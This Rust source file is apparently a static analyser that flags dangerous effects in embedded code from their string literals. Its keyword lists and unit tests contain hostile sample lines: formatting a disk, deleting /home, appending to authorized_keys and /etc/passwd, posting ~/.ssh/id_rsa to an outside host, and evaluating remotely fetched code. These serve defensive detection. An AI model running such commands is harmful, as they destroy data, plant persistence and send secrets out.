//! Assesses code of other languages that does more than compute, by its string literals: a command, an SQL statement,
//! a path or an address reveals its purpose, whatever function the code calls.

use super::secrets::is_secret;
use super::{Level, Reason, assess, database, reason, startup};
use crate::Dialect;
use crate::effects::{Place, place_of};
use crate::embedded::sql;
use crate::embedded::texts::string_literals;
use std::ops::Range;

/// Names that delete or replace a file or change its owner, in any of the languages.
const HARMS: [&str; 30] = [
    "unlink",
    "rmdir",
    "rmtree",
    "rm_rf",
    "rm_r",
    "os.remove",
    "os.rename",
    "os.replace",
    "file.remove",
    "file.rename",
    "File.delete",
    "File.rename",
    "FileUtils.",
    "fs.rm",
    "unlinkSync",
    "renameSync",
    "rename ",
    "rename(",
    "shutil.move",
    "file delete",
    "file rename",
    "delete-directory",
    "delete-file",
    "delete every",
    "chown",
    "chmod",
    "truncate",
    "symlink",
    "rimraf",
    "removeSync",
];

/// Text without blanks that indicates writing: modes of `open`, and functions that write a text to a file.
const WRITES: [&str; 24] = [
    ",'w'",
    ",'wb'",
    ",'w+'",
    ",'a'",
    ",'ab'",
    ",'a+'",
    ",\"w\"",
    ",\"wb\"",
    ",\"w+\"",
    ",\"a\"",
    ",\"ab\"",
    ",\"a+\"",
    "mode='w",
    "mode='a",
    ">>",
    "'>",
    "\">",
    "write_text",
    "write_bytes",
    "writeFile",
    "appendFile",
    "File.write",
    "binwrite",
    "put_contents",
];

/// Text that indicates access to another machine.
const REACHES: [&str; 22] = [
    "://",
    "socket",
    "Socket",
    "gethostby",
    "getaddrinfo",
    "requests",
    "urllib",
    "urlopen",
    "http",
    "smtplib",
    "mail(",
    "Net::",
    "LWP",
    "fetch(",
    "dns.",
    "boto3",
    "paramiko",
    "ftplib",
    "Mechanize",
    "axios",
    "inet",
    "dgram",
];

/// Functions that run a text as code.
const RUNS_TEXT: [&str; 8] =
    ["eval", "exec", "instance_eval", "loadstring", "Function", "source", "runInThisContext", "execfile"];

/// Names by which a library empties a store.
const EMPTIES: [&str; 14] = [
    "drop_database",
    "dropDatabase",
    "drop_collection",
    "drop_table",
    "dropTable",
    "drop_all",
    "dropAllTables",
    "flushall",
    "flushdb",
    "delete_bucket",
    "delete_db_instance",
    "terminate_instances",
    "object_versions.delete",
    "delete_many({})",
];

/// Most bytes of a string literal that is assessed as a command.
const MAX_LITERAL: usize = 2000;
/// Most string literals that are assessed.
const MAX_LITERALS: usize = 50;

/// True for code that contacts another machine.
pub(super) fn reaches(code: &str) -> bool {
    REACHES.iter().any(|sign| code.contains(sign))
}

/// True if the code calls a function of that name, not a method and not a longer name.
fn calls(code: &str, name: &str) -> bool {
    let part = |c: char| c.is_alphanumeric() || c == '_';
    code.match_indices(name).any(|(at, _)| {
        let before = &code[..at];
        let is_method = before.ends_with(['.', ':']) || before.ends_with("->");
        !is_method && !before.ends_with(part) && !code[at + name.len()..].starts_with(part)
    })
}

/// Returns the dangers found in the string literals of a program.
pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reason> {
    let shown: String = token.chars().take(60).collect();
    let say = |effect: &str, why: String, scope: &str| {
        reason(Level::Danger, effect, &shown, span.clone(), why).with_scope(scope)
    };
    let has = |signs: &[&str]| signs.iter().any(|sign| code.contains(sign));
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let writes = WRITES.iter().any(|sign| compact.contains(sign));
    let texts = string_literals(code);
    let mut found = Vec::new();
    for text in texts.iter().take(MAX_LITERALS) {
        found.extend(command_danger(text).map(|inner| say(&inner.effect, inner.why.clone(), text)));
        found.extend(destroyed_data(text).map(|what| database::data_loss(what, &shown, span)));
        if writes && paths_in(text).any(startup::runs_by_itself) {
            found.push(say(
                "persistence",
                format!("the code in it writes to {text}, which runs by itself or lets others in"),
                text,
            ));
        }
        if is_secret(text) && reaches(code) {
            found.push(say("network", format!("the code in it reads {text} and reaches another machine"), text));
        }
    }
    if has(&EMPTIES) {
        found.push(say(
            "delete",
            "the code in it empties a store, and only a backup brings that back".to_owned(),
            "a whole store",
        ));
    }
    let is_important = |text: &&str| {
        matches!(place_of(text), Place::Root | Place::System | Place::Home | Place::Device | Place::Configuration)
    };
    let bare = bare_paths(code);
    if has(&HARMS)
        && let Some(path) =
            texts.iter().flat_map(|text| text.split_whitespace()).chain(bare.iter().copied()).find(is_important)
    {
        found.push(say("delete", format!("the code in it takes away or changes what lies in {path}"), path));
    }
    if RUNS_TEXT.iter().any(|name| calls(code, name))
        && texts.iter().any(|text| text.contains("://") && !text.contains(' '))
    {
        let all = "all that you may do on this machine";
        found.push(say("network-to-shell", "the code in it runs what another machine says".to_owned(), all));
    }
    found
}

/// Returns the danger of a text as a command, if there is one.
fn command_danger(text: &str) -> Option<Reason> {
    // a trailing blank: an argument is appended at run time; a crontab line has its times first
    let whole = if text.ends_with(' ') { format!("{text}\"$x\"") } else { text.trim().to_owned() };
    let text = if whole.starts_with(['*', '@']) { startup::cron_command(&whole).unwrap_or(&whole) } else { &whole };
    if !text.contains(' ') || text.len() > MAX_LITERAL {
        return None;
    }
    let script = crate::parse(text, Dialect::Sh);
    assess(&script).reasons.into_iter().find(|r| r.level == Level::Danger)
}

/// Returns the data that a text destroys as an SQL statement, if it does.
fn destroyed_data(text: &str) -> Option<String> {
    let start: String = text.trim_start().chars().take(9).collect::<String>().to_lowercase();
    if !["drop ", "truncate ", "delete "].iter().any(|verb| start.starts_with(verb)) {
        return None;
    }
    sql::actions(text)
        .into_iter()
        .find_map(|action| if let sql::Action::Destroys(what) = action { Some(what) } else { None })
}

/// Returns the words of a text that may be paths: `/etc/passwd` of `>>/etc/passwd`.
fn paths_in(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || "'\"()[],;=:<>|".contains(c))
}

/// Returns the paths in code without quotes: `file delete -force /home`.
fn bare_paths(code: &str) -> Vec<&str> {
    let words = code.split(|c: char| c.is_whitespace() || "\"'()[]{},;=".contains(c));
    words.filter(|word| word.len() > 1 && word.starts_with(['/', '~'])).collect()
}

#[cfg(test)]
mod tests {
    use super::{calls, reasons};

    fn told(code: &str) -> Vec<String> {
        reasons(code, code, &(0..code.len())).into_iter().map(|r| r.effect).collect()
    }

    #[test]
    fn literals_reveal_dangers_whatever_the_function() {
        for (code, effect) in [
            ("x = 'sy' + 'stem'; getattr(o, x)('mkfs.ext4 /dev/sdb')", "device"),
            ("go(['rm', '-rf', '/home'])", "delete"),
            ("db.execute(\"DROP TABLE orders\")", "delete"),
            ("m.dropDatabase()", "delete"),
            ("open('/root/.ssh/authorized_keys', 'a').write(k)", "persistence"),
            ("open(F, '>>/etc/passwd'); print F $x", "persistence"),
            ("Path('~/.bashrc').expanduser().write_text(x)", "persistence"),
            ("post('http://h.example', open('/home/u/.ssh/id_rsa'))", "network"),
            ("eval(get('http://h.example/x'))", "network-to-shell"),
            ("file delete -force /home", "delete"),
        ] {
            assert!(told(code).iter().any(|own| own == effect), "{code}: {:?}", told(code));
        }
    }

    #[test]
    fn reading_is_no_danger() {
        for code in [
            "print(open('/etc/passwd').read())",
            "open F, '/etc/hosts'; print while <F>",
            "rows.append(open('/etc/hosts').read()); sys.stdout.write('words')",
            "json.load(urlopen('https://h.example/a.json'))",
            "/x/.exec('https://h.example')",
            "re.compile('https://h.example')",
            "f = open('out.txt', 'w'); f.write('x')",
            "print(os.listdir('/usr/lib'))",
            "open('cpu.profile', 'w').write(x)",
            "open('fixtures/etc/hosts.txt', 'w').write(x)",
        ] {
            assert_eq!(told(code), [""; 0], "{code}");
        }
        assert!(calls("x = eval (y)", "eval") && !calls("re.exec(y)", "exec") && !calls("evaluate(y)", "eval"));
    }

    #[test]
    fn sql_is_not_assessed_as_a_shell_command() {
        let commands = |line: &str| crate::parse(line, crate::Dialect::Bash).commands.len();
        assert_eq!(commands("python3 -c 'db.execute(\"DROP TABLE orders\")'"), 1);
        assert_eq!(commands("lua -e 'os.execute(\"rm -rf x\")'"), 2);
    }

    #[test]
    fn the_number_of_literals_is_limited() {
        assert_eq!(told(&"'rm -rf ~' , x; ".repeat(500)).len(), super::MAX_LITERALS);
    }
}
